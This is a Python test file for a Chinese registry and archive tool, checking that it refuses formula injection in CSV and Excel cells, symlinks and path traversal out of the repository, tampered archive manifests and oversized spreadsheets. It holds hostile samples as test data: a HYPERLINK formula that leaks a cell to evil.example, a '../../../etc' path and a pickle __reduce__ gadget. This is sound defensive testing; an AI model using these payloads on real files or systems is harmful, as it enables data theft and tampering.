"""Security regressions found by probing (issue: reliability, section 4). Every input from a unit
or from a pull request is untrusted; no command may delete or write what is not its own."""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import FIXTURES, REPO, copy_project, run_cli


@pytest.mark.parametrize(
    "target", [".", "..", "units", "content", "cycles", "archive", "theme", ".git/x"]
)
def test_generate_refuses_to_empty_a_source_folder(tmp_path: Path, target: str) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    (project / ".git").mkdir()
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    code, _ = run_cli("generate", "--project", str(project), "--out", str(project / target))
    assert code == 2
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before


def test_generate_refuses_a_folder_it_did_not_make_but_rewrites_its_own(tmp_path: Path) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    foreign = tmp_path / "notes"
    foreign.mkdir()
    (foreign / "keep.txt").write_text("重要", encoding="utf-8")
    assert run_cli("generate", "--project", str(project), "--out", str(foreign))[0] == 2
    assert (foreign / "keep.txt").is_file()
    own = tmp_path / "docs"
    assert run_cli("generate", "--project", str(project), "--out", str(own))[0] == 0
    assert run_cli("generate", "--project", str(project), "--out", str(own))[0] == 0
    assert (own / "units/mini-window/index.md").is_file()


FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def _formula_unit(tmp_path: Path) -> Path:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    unit = project / "units/mini-window/unit.yml"
    text = unit.read_text(encoding="utf-8")
    text = text.replace("name: 测试窗口", "name: '" + FORMULA_NAME.replace("'", "''") + "'")
    unit.write_text(text.replace("address: 东镇 1 号", "address: =1+1"), encoding="utf-8")
    return project


def test_open_data_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    import csv

    from jinglao.pipeline import build_pages

    result = build_pages(_formula_unit(tmp_path))
    assert result.ok, result.problems
    rows = list(csv.reader(result.pages["data/units.csv"].lstrip("\ufeff").splitlines()))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["name"] == "'" + FORMULA_NAME
    assert record["address"] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_excel_export_writes_text_cells_not_formulas(tmp_path: Path) -> None:
    import zipfile

    from openpyxl import load_workbook

    project = _formula_unit(tmp_path)
    book_path = tmp_path / "register.xlsx"
    assert run_cli("export", str(book_path), "--project", str(project))[0] == 0
    with zipfile.ZipFile(book_path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml
    cells = [c for row in load_workbook(book_path)["单位名录"].iter_rows() for c in row]
    name = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.data_type == "s" and name.value == "'" + FORMULA_NAME


def test_excel_import_refuses_formula_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["单位名称", "行业类别", "地址"])
    sheet.append(["安全的单位", "涉老部门", "=1+1"])
    sheet["C2"].data_type = "s"  # text that looks like a formula, as a pasted cell would be
    sheet.append(["@SUM(A1)", "涉老部门", "东镇 2 号"])
    book.save(tmp_path / "in.xlsx")
    code, output = run_cli("import", str(tmp_path / "in.xlsx"), "--project", str(project))
    assert "第 2 行：「地址」以「=」开头" in output
    assert "第 3 行：「单位名称」以「@」开头" in output
    assert not any(
        "=" in p.read_text(encoding="utf-8")
        for p in (project / "units").rglob("*.yml")
        if "1+1" in p.read_text(encoding="utf-8")
    )
    assert code == 1


class _Exploit:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (open, (self.path, "w"))


def _git_repo(root: Path) -> None:
    import subprocess

    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "demo"]):
        subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
            cwd=root, check=True, capture_output=True,
        )  # fmt: skip


def test_the_build_fails_on_a_changed_bag_and_names_the_file(demo: Path) -> None:
    cycle = demo / "archive/2021-2023/data/cycle.yml"
    cycle.write_bytes(cycle.read_bytes().replace("安澜县".encode(), "安岚县".encode(), 1))
    code, output = run_cli("validate", "--project", str(demo))
    assert code == 1
    assert output.startswith("archive/2021-2023/data/cycle.yml:1:1: 错误 归档已被改动：内容被改动")


def test_verify_names_a_changed_tag_manifest_from_git(demo: Path) -> None:
    _git_repo(demo)
    manifest = demo / "archive/2021-2023/tagmanifest-sha256.txt"
    lines = manifest.read_text(encoding="utf-8").splitlines()
    lines = [
        "0" * 64 + " bag-info.txt" if line.endswith(" bag-info.txt") else line for line in lines
    ]
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, output = run_cli("verify", "--project", str(demo))
    assert code == 1
    assert (
        "archive/2021-2023/tagmanifest-sha256.txt：与 HEAD 相比被改动（还没有提交的改动）" in output
    )
    assert "bag-info.txt：与 HEAD" not in output


def test_a_consistently_rehashed_bag_is_caught_by_the_bundle_hash_and_the_base(demo: Path) -> None:
    """Changing a frozen file and re-hashing every manifest leaves the bag internally intact."""
    import bagit

    _git_repo(demo)
    bag = demo / "archive/2021-2023"
    unit = bag / "data/units/anlan-renmin-yiyuan/unit.yml"
    unit.write_text(unit.read_text(encoding="utf-8").replace("当场", "三天内", 1), encoding="utf-8")
    bagit.Bag(str(bag)).save(manifests=True)
    code, output = run_cli("verify", "--project", str(demo))
    assert code == 1 and "记录的压缩包校验值与归档现在的内容不符" in output
    code, output = run_cli("verify", "--project", str(demo), "--base", "HEAD")
    assert "archive/2021-2023/data/units/anlan-renmin-yiyuan/unit.yml：与 HEAD 相比被改动" in output


def test_binary_files_in_a_bag_are_kept_and_published(demo: Path) -> None:
    from jinglao.bags.bag import add_to_bag
    from jinglao.pipeline import build_pages

    scan = bytes(range(256)) * 4  # not UTF-8
    add_to_bag(demo / "archive/2021-2023", {"scan.bin": scan}, "测试扫描件")
    run_cli("bundle", "2021-2023", "--project", str(demo), "--out", str(demo / "b.zip"))
    result = build_pages(demo)
    assert result.ok, result.problems
    assert result.pages["archive/2021-2023/bag/data/scan.bin"] == scan


def test_an_empty_bundle_hash_file_is_a_located_problem(demo: Path) -> None:
    (demo / "archive/2021-2023.bundle.sha256").write_text("", encoding="utf-8")
    code, output = run_cli("validate", "--project", str(demo))
    assert code == 1
    assert output.startswith(
        "archive/2021-2023.bundle.sha256:1:1: 错误 归档压缩包的校验值文件是空的"
    )


def test_links_out_of_the_repository_are_refused_and_never_read(tmp_path: Path) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    secret = tmp_path / "secret.yml"
    secret.write_text("name: 机密内容 [\n", encoding="utf-8")
    outside_unit = tmp_path / "elsewhere"
    (outside_unit).mkdir()
    (outside_unit / "unit.yml").write_text(
        (project / "units/mini-window/unit.yml").read_text(encoding="utf-8"), encoding="utf-8"
    )
    (project / "units/linked-folder").symlink_to(outside_unit, target_is_directory=True)
    (project / "units/linked-file").mkdir()
    (project / "units/linked-file/unit.yml").symlink_to(secret)
    (project / "content/leak.md").symlink_to(secret)
    code, output = run_cli("validate", "--project", str(project))
    assert code == 1
    assert "机密内容" not in output
    for rel in ("units/linked-folder", "units/linked-file/unit.yml", "content/leak.md"):
        assert f"{rel}:1:1: 错误 「{rel}」是指向仓库以外的链接，不会被读取" in output


def test_links_inside_the_repository_are_fine(tmp_path: Path) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    (project / "content/alias.md").symlink_to(project / "content/index.md")
    assert run_cli("validate", "--project", str(project))[0] == 0


def test_pages_the_build_reads_must_be_utf8_and_small(tmp_path: Path) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    (project / "content/index.md").write_bytes("# 首页\n".encode("gbk"))
    policy = project / "content/policies/test-law.md"
    policy.write_bytes(policy.read_bytes() + "说明".encode("gbk"))
    (project / "content/policies/huge.md").write_text(
        "---\ntitle: 大\nissuer: 县\nlevel: 县\n---\n" + "字" * 400_000, encoding="utf-8"
    )
    code, output = run_cli("validate", "--project", str(project))
    assert code == 1
    assert "content/index.md:1:3: 错误 文件不是 UTF-8 编码" in output
    assert "content/policies/test-law.md:" in output and "\ufffd" not in output
    assert "content/policies/huge.md:1:1: 错误 文件太大（1.1 MiB），上限是 1 MiB" in output


def _sheet(path: Path, rows: list[list[object]]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)


def test_import_reads_the_data_not_the_claimed_dimension(tmp_path: Path) -> None:
    import re
    import tracemalloc
    import zipfile

    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    honest = tmp_path / "honest.xlsx"
    _sheet(honest, [["单位名称", "行业类别"], ["东镇敬老院", "基层为老服务组织"]])
    claims = tmp_path / "claims.xlsx"
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(claims, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
                assert b"XFD1048576" in data
            target.writestr(item, data)
    tracemalloc.start()
    code, output = run_cli("import", str(claims), "--project", str(project))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code == 0, output
    assert peak < 50 * 1024 * 1024, peak


def test_import_caps_rows_checks_id_length_and_lists_what_it_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from jinglao.cli import sheet

    monkeypatch.setattr(sheet, "MAX_ROWS", 3)
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    rows: list[list[object]] = [["单位编号", "单位名称", "行业类别"]]
    rows += [["a" * 300, "很长编号的单位", "涉老部门"]]
    rows += [["", "东镇\n图书馆", "企事业单位"], ["ok-two", "二号单位", "涉老部门"]]
    rows += [["ok-three", "三号单位", "涉老部门"], ["ok-four", "四号单位", "涉老部门"]]
    _sheet(tmp_path / "many.xlsx", rows)
    code, output = run_cli("import", str(tmp_path / "many.xlsx"), "--project", str(project))
    assert code == 0  # units were made; the skipped rows are reported
    assert "第 2 行：单位编号太长（300 个字符），最多 60 个" in output
    assert "第 5 行起：一次最多导入 3 行，其余没有读取" in output
    created = sorted(p.name for p in (project / "units").iterdir() if p.is_dir())
    created.remove("mini-window")
    assert created == ["dongzhen-tushuguan", "ok-two"]
    assert all(f"已建立 units/{unit_id}/unit.yml" in output for unit_id in created)
    text = (project / "units/dongzhen-tushuguan/unit.yml").read_text(encoding="utf-8")
    assert "东镇 图书馆" in text and "东镇\n图书馆" not in text
    _, report = run_cli("validate", "units/dongzhen-tushuguan", "--project", str(project))
    assert "YAML 格式错误" not in report


def test_validating_one_unit_reports_what_other_files_say_about_it(demo: Path) -> None:
    """A unit nominated in a cycle with an incomplete creation archive blocks the build; the
    clerk checking only that unit's folder must see it too."""
    unit = demo / "units/minzheng-fuwu-chuangkou/unit.yml"
    text = unit.read_text(encoding="utf-8")
    start = text.index("archive:\n")
    unit.write_text(text[:start] + "\n".join(
        line for line in text[start:].splitlines()[1:] if not line.startswith("  ")
    ) + "\n", encoding="utf-8")  # fmt: skip
    code, output = run_cli("validate", "units/minzheng-fuwu-chuangkou", "--project", str(demo))
    assert code == 1
    assert "cycles/2024-2026.yml:" in output and "创建档案不齐全" in output
    code, other = run_cli("validate", "units/anlan-tushuguan", "--project", str(demo))
    assert code == 0 and "cycles/" not in other


def _with_staff(unit: Path, original: str, photos: list[str]) -> None:
    staff = "".join(
        f"      - {{post: 窗口, name: 张{i}, photo: {photo}, consent: true}}\n"
        for i, photo in enumerate(photos)
    )
    unit.write_text(
        original.replace("  identification:\n", "  identification:\n    staff:\n" + staff, 1),
        encoding="utf-8",
    )


def test_staff_photos_are_files_in_the_units_own_folder(tmp_path: Path) -> None:
    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    unit = project / "units/mini-window/unit.yml"
    original = unit.read_text(encoding="utf-8")
    (project / "units/mini-window/photos").mkdir()
    (project / "units/mini-window/photos/ok.jpg").write_bytes(b"\xff\xd8\xff")
    _with_staff(
        unit, original, ["photos/ok.jpg", "../../../etc/x.jpg", "https://evil.example/a.png"]
    )
    code, output = run_cli("validate", "--project", str(project))
    assert code == 1, output
    assert "照片文件「../../../etc/x.jpg」的写法不对" in output
    assert "照片文件「https://evil.example/a.png」的写法不对" in output
    (tmp_path / "outside.jpg").write_bytes(b"\xff\xd8\xff")
    (project / "units/mini-window/photos/link.jpg").symlink_to(tmp_path / "outside.jpg")
    _with_staff(unit, original, ["photos/ok.jpg", "photos/none.png", "photos/link.jpg"])
    code, output = run_cli("validate", "--project", str(project))
    assert code == 1, output
    assert "照片文件「photos/none.png」不在本单位的文件夹里" in output
    assert "照片文件「photos/link.jpg」不在本单位的文件夹里" in output
    assert "「photos/ok.jpg」" not in output


def test_write_docs_itself_refuses_a_source_folder(tmp_path: Path) -> None:
    """Every caller (the bench too) is protected, not only the command line."""
    from jinglao.pipeline import OutputFolderError, write_docs

    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    with pytest.raises(OutputFolderError):
        write_docs(project, {}, project / "units")
    assert (project / "units/mini-window/unit.yml").is_file()


def test_a_closed_pipe_ends_the_command_quietly(tmp_path: Path) -> None:
    """`jinglao check <id> | head` printed 程序内部出错（BrokenPipeError…）. The report here is
    far larger than a pipe holds, so the reader closes it while the command still writes."""
    import subprocess
    import sys

    project = copy_project(FIXTURES / "minimal", tmp_path / "p")
    unit = project / "units/mini-window/unit.yml"
    blanks = "commitments:\n" + "  - '  '\n" * 3000
    unit.write_text(
        unit.read_text(encoding="utf-8").replace("commitments:\n", blanks), encoding="utf-8"
    )
    done = subprocess.run(
        f"{sys.executable} -m jinglao.cli validate --project {project} | head -1",
        shell=True, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.stdout.startswith("units/mini-window/unit.yml:")
    assert done.stderr == ""


def test_the_readme_commands_leave_no_untracked_virtual_environment() -> None:
    """The README's first command creates .venv/; git must not offer it for commit."""
    import subprocess

    ignored = subprocess.run(
        ["git", "-C", str(REPO), "check-ignore", ".venv/bin/python"],
        capture_output=True,
        check=False,
    )
    assert ignored.returncode == 0
